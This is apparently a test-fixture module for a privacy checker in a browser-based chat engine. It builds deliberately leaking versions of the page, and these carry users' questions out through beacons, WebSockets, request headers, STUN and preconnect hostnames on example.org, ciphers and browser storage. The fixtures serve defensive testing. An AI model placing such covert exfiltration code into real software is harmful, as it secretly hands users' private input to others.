// Builds of the page that leak on purpose, each in another way. Whoever says that nothing leaves has to catch these.

import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { WEB } from "./server.js";

/** The engine's worker: one file, with all that it imports. */
const WORKER = "sprat/worker.js";
const UNSEALED = "sprat/unsealed.js";

/**
 * A script with some of its code replaced, which may be laid out in another way there: scripts are published without the
 * space that only readers want.
 *
 * @param {string} code
 * @param {string} before
 * @param {string} after
 */
export function edited(code, before, after) {
  // Parentheses that change nothing go too, and semicolons before a brace.
  const tokens = before.match(/[\w$#]+|[^\w$#\s]/g) ?? [];
  const patterns = tokens.map((token) => {
    const literal = token.replace(/\W/g, "\\$&");
    if (token === ";") return `(?:${literal}|(?=\\s*\\}))`;
    return "()".includes(token) ? `${literal}?` : literal;
  });
  const isWord = (/** @type {string | undefined} */ token) => /^[\w$#]/.test(token ?? "");
  const joined = patterns.map((pattern, i) => pattern + (isWord(tokens[i]) && isWord(tokens[i + 1]) ? "\\s+" : "\\s*"));
  const place = new RegExp(joined.join("").replace(/\\s[*+]$/, ""));
  if (!place.test(code)) throw new Error(`there is no "${before}" any more: what was to be put there has to be put elsewhere`);
  return code.replace(place, () => after);
}

/** A copy of the built page that can be altered, and put right again. */
export class LeakingBuild {
  folder = mkdtempSync(path.join(os.tmpdir(), "sprat-leaking-"));
  #real = new Map();
  /** @type {Set<string>} */
  #added = new Set();

  constructor() {
    cpSync(WEB, this.folder, { recursive: true });
  }

  /** Alters a script. @param {string} file @param {string} before code in it @param {string} after what comes instead */
  edit(file, before, after) {
    const at = path.join(this.folder, file);
    const code = readFileSync(at, "utf8");
    const altered = edited(code, before, after);
    if (!this.#real.has(at)) this.#real.set(at, code);
    writeFileSync(at, altered);
  }

  /** Adds a file. @param {string} file @param {string} content */
  add(file, content) {
    const at = path.join(this.folder, file);
    if (existsSync(at)) throw new Error(`there is a ${file} already`);
    writeFileSync(at, content);
    this.#added.add(at);
  }

  /**
   * Has the engine run in a worker without a seal: one that the server's policy does not know, with all its functions.
   */
  unseal() {
    if (this.#added.has(path.join(this.folder, UNSEALED))) return;
    this.add(UNSEALED, readFileSync(path.join(this.folder, WORKER), "utf8"));
    this.edit(UNSEALED, "seal(self)", "Promise.resolve(false)");
    this.edit("sprat/start-worker.js", "./worker.js", "./unsealed.js");
  }

  /** The page as it was built. */
  restore() {
    for (const [at, code] of this.#real) writeFileSync(at, code);
    this.#real.clear();
    for (const at of this.#added) rmSync(at);
    this.#added.clear();
  }

  remove() {
    rmSync(this.folder, { recursive: true, force: true });
  }
}

const CALL = "const { signal, onAsk = this.#options.onAsk, ...rest } = options;";
const TAKEN = "takeAway(scope);";
const ANSWER = "return await this.#engines.ask((engine) => (asked = engine).runtime.chat(ask, line, person, signal, tell));";

/** Runs code in the page whenever a question is asked; `text` is the question. */
const onQuestion = (code) => (build) => build.edit("sprat/sprat.js", CALL, `${CALL}\n{ const text = messages.at(-1).content; ${code} }`);
/** The same in a worker of the engine that is not sealed, where `ask` is the whole call as JSON. */
const inWorker = (code) => (build) => {
  build.unseal();
  build.edit(UNSEALED, ANSWER, `{ ${code} }\n${ANSWER}`);
};

/** No search knows this one. */
const CIPHER = "const secret = Array.from(text, (c) => (c.codePointAt(0) ^ 0x15).toString(36)).reverse().join('-');";
const BASE64 = "const base64 = btoa(String.fromCharCode(...new TextEncoder().encode(text)));";

/** Byte-level BPE in few lines, as a careless page might ship it for its statistics. */
const TOKENIZE = `
  const { model: { vocab, merges } } = await (await fetch("/models/sprat-tiny/tokenizer.json")).json();
  const ranks = new Map(merges.map((pair, rank) => [Array.isArray(pair) ? pair.join(" ") : pair, rank]));
  const ids = [];
  for (const word of JSON.parse(ask).messages.at(-1).content.match(/ ?[a-z]+|\\d/gi) ?? []) {
    const parts = [...word.replace(" ", "Ġ")];
    for (;;) {
      const rank = (at) => ranks.get(parts[at] + " " + parts[at + 1]) ?? Infinity;
      const best = parts.map((_, at) => at).reduce((a, b) => (rank(b) < rank(a) ? b : a), 0);
      if (rank(best) === Infinity) break;
      parts.splice(best, 2, parts[best] + parts[best + 1]);
    }
    ids.push(...parts.map((part) => vocab[part]));
  }`;

/**
 * By name: how it is built, and where the check has to see it: no two at the same place. One that stands in the way of
 * others is built alone.
 *
 * @type {Record<string, { build: (build: LeakingBuild) => void, where: RegExp, alone?: boolean }>}
 */
export const LEAKS = {
  "the question in a query": {
    build: onQuestion("fetch(`/v1/models?q=${encodeURIComponent(text)}`);"),
    where: /GET \/v1\/models, address/,
  },
  "base64 in a beacon": {
    build: onQuestion(`${BASE64} navigator.sendBeacon("/v1/statistics", base64);`),
    where: /POST \/v1\/statistics, body/,
  },
  "a beacon when the page is left": {
    build: onQuestion(`addEventListener("pagehide", () => navigator.sendBeacon("/bye", text));`),
    where: /POST \/bye, body/,
  },
  "a WebSocket": {
    build: onQuestion("const socket = new WebSocket(`ws://${location.host}/v1/live`); socket.onopen = () => socket.send(text);"),
    where: /WebSocket \/v1\/live/,
  },
  "WebRTC, by the name of a server": {
    build: onQuestion(`
      const hex = Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("");
      const name = hex.match(/.{1,60}/g).join(".");
      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + name + ".example.org" }] });
      peer.createDataChannel("x");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));`),
    where: /RTCPeerConnection in page/,
  },
  "a hash in the address of a picture": {
    build: onQuestion(`crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)).then((hash) => {
      const hex = Array.from(new Uint8Array(hash), (byte) => byte.toString(16).padStart(2, "0")).join("");
      new Image().src = "/icon.svg?v=" + hex.slice(0, 20);
    });`),
    where: /GET \/icon\.svg, address/,
  },
  "a ping of a link": {
    build: onQuestion(`
      const link = document.createElement("a");
      link.href = "#";
      link.ping = "/ping?" + encodeURIComponent(text);
      document.body.append(link);
      link.click();`),
    where: /POST \/ping, address/,
  },
  "an event source": {
    build: onQuestion(`new EventSource("/v1/events?" + new URLSearchParams({ text }));`),
    where: /GET \/v1\/events, address/,
  },
  "a header of an XMLHttpRequest": {
    build: onQuestion(`${BASE64}
      const request = new XMLHttpRequest();
      request.open("GET", "/icon.svg");
      request.setRequestHeader("x-cache-key", base64);
      request.send();`),
    where: /GET \/icon\.svg, x-cache-key/,
  },
  "eight characters in each request": {
    build: onQuestion("for (const piece of text.match(/.{1,8}/gu)) fetch(`/style.css?v=${encodeURIComponent(piece)}`);"),
    where: /GET \/style\.css, address/,
  },
  "gzip from the worker": {
    build: inWorker(`
      const packed = await new Response(new Blob([ask]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
      fetch("/v1/report", { method: "POST", body: packed });`),
    where: /POST \/v1\/report, body/,
  },
  "token ids in a header": {
    build: inWorker(`${TOKENIZE} fetch("/icon.svg", { headers: { "x-prefix": ids.join(",") } });`),
    where: /GET \/icon\.svg, x-prefix/,
  },
  "token ids as numbers": {
    build: inWorker(`${TOKENIZE} fetch("/v1/prefix", { method: "POST", body: Uint16Array.from(ids) });`),
    where: /POST \/v1\/prefix, body/,
  },
  // The page's policy (CSP) would not let it fetch from another host, but it may still name one.
  "the name of another host": {
    build: onQuestion(`
      const link = document.createElement("link");
      link.rel = "preconnect";
      link.href = "https://" + (text.match(/[a-z][a-z0-9]{19}/)?.[0] ?? "none") + ".example.org";
      document.head.append(link);`),
    where: /^host$/,
  },
  "both guards taken away": {
    build(build) {
      lie(build);
      build.edit("sprat/sprat.js", NO_LINE, "");
    },
    alone: true,
    where: /POST \/v1\/chat\/completions, body/,
  },
  "the cloud asked after a failure on the device": {
    build: (build) =>
      build.edit(
        "sprat/sprat.js",
        "if (error instanceof SpratError && !error.partial) error.partial = text;",
        `const headers = { "content-type": "application/json" };
        fetch("/v1/chat/completions", { method: "POST", headers, body: JSON.stringify({ model: "sprat-small", messages }) });`,
      ),
    where: /POST \/v1\/chat\/completions, body/,
  },
  "the answer, told afterwards": {
    build: (build) =>
      build.edit(
        "sprat/sprat.js",
        "yield event;",
        `if (event.type === "end") fetch("/v1/quality", { method: "POST", body: JSON.stringify({ answer: event.text }) });
        yield event;`,
      ),
    where: /POST \/v1\/quality, body/,
  },
  "a word on the console": { build: onQuestion("console.debug('asked', text);"), where: /console\.debug in page/ },
  "local storage": { build: onQuestion(`localStorage.setItem("last", text);`), where: /localStorage/ },
  "a database": {
    build: onQuestion(`
      const opening = indexedDB.open("chats", 1);
      opening.onupgradeneeded = () => opening.result.createObjectStore("chats", { autoIncrement: true });
      opening.onsuccess = () => opening.result.transaction("chats", "readwrite").objectStore("chats").add({ text });`),
    where: /indexedDB/,
  },
  "a file": {
    build: inWorker(`
      const folder = await navigator.storage.getDirectory();
      const file = await (await folder.getFileHandle("crash.txt", { create: true })).createWritable();
      await file.write(ask);
      await file.close();`),
    where: /OPFS \/crash\.txt/,
  },
  "the page's title": { build: onQuestion("document.title = text.slice(0, 60);"), where: /title in page/ },
  "the page's address": { build: onQuestion("history.replaceState(null, '', '#' + encodeURIComponent(text));"), where: /history in page/ },
  "a service worker that is told": {
    build(build) {
      build.add("told.js", `onmessage = ({ data }) => fetch("/v1/told", { method: "POST", body: data });`);
      build.edit("sprat/sprat.js", CALL, `${CALL}
        navigator.serviceWorker.register("/told.js").then(() => navigator.serviceWorker.ready)
          .then(({ active }) => active.postMessage(messages.at(-1).content));`);
    },
    where: /^fetch in service_worker/,
  },
  "the receipt": {
    build: (build) =>
      build.edit("sprat/sprat.js", "yield event;", `if (event.receipt) event.receipt.reason = messages.at(-1).content; yield event;`),
    where: /a receipt or an error/,
  },
};

/** What keeps a private question without a way out. */
const NO_LINE = 'level !== "open" || mode === "device" || ';

/** The engine is told that what is private is open, and for the cloud. @param {LeakingBuild} build */
function lie(build) {
  const call = `options: { ...rest, mode: cloudFirst ? "cloud" : mode, ...(level !== "open" && { level }) } })`;
  build.edit("sprat/sprat.js", call, `options: { ...rest, private: false, level: "open", mode: "cloud" } })`);
}

/** All that a worker's own code can try, each with the question in it. */
const TRIES = `
  const said = encodeURIComponent(JSON.parse(ask).messages.at(-1).content);
  const tries = {
    fetch: () => fetch("/v1/tried?fetch=" + said),
    XMLHttpRequest() {
      const request = new XMLHttpRequest();
      request.open("POST", "/v1/tried", false);
      request.send(said);
    },
    EventSource: () => new EventSource("/v1/tried?events=" + said),
    WebSocket: () => new WebSocket("ws://" + location.host + "/v1/tried?socket=" + said),
    cache: async () => (await caches.open("tried")).add("/v1/tried?cache=" + said),
    Worker: () => new Worker("data:text/javascript,fetch('" + location.origin + "/v1/tried?worker=" + said + "')"),
    nested: () => new Worker("/sprat/link.js?nested=" + said, { type: "module" }),
    shared: () => new SharedWorker("/sprat/link.js?shared=" + said, { type: "module" }),
    service: () => navigator.serviceWorker.register("/sprat/link.js?service=" + said, { type: "module" }),
    scripts: () => importScripts("/sprat/error.js?scripts=" + said),
    own: () => import("/sprat/error.js?own=" + said),
    itself: () => import(location.href + "?itself=" + said),
    font: () => new FontFace("tried", "url(/tried.woff2?font=" + said + ")").load(),
    module: () => import("data:text/javascript,export default await fetch('" + location.origin + "/v1/tried?module=" + said + "')"),
    another: () => import("https://" + said.slice(0, 20).toLowerCase().replace(/[^a-z0-9]/g, "x") + ".example.org/x.js"),
  };
  for (const way of Object.values(tries)) try { await way(); } catch {}`;

/**
 * What makes of the engine's worker one that tries everything.
 *
 * @param {string[]} [taken] the functions that are taken away from it all the same
 * @returns {[before: string, after: string][]} edits of its script
 */
export const trying = (taken = []) => [
  [TAKEN, taken.map((name) => `remove(scope, "${name}");`).join(" ")],
  [ANSWER, `{ ${TRIES} }\n${ANSWER}`],
];

/** Builds that would leak, if something else did not stand in the way. Nothing may be found. */
export const STOPPED = {
  "an engine that has been lied to, without a line": { build: lie },
  /** It may use every function there is, and the policy still forbids it to connect and to load. */
  "an engine that tries every way out": {
    build(build) {
      for (const [before, after] of trying()) build.edit(WORKER, before, after);
    },
  },
};

/** Leaks in an encoding of their own: the search finds nothing, but the request is not an ordinary one. */
export const CIPHERS = {
  "in the header of an ordinary file": {
    build: onQuestion(`${CIPHER} fetch("/icon.svg", { headers: { accept: secret } });`),
    odd: /^GET \/icon\.svg with accept: /,
  },
  "in a body": {
    build: onQuestion(`${CIPHER} fetch("/v1/chat/completions", { method: "POST", body: secret });`),
    odd: /^POST \/v1\/chat\/completions with /,
  },
};
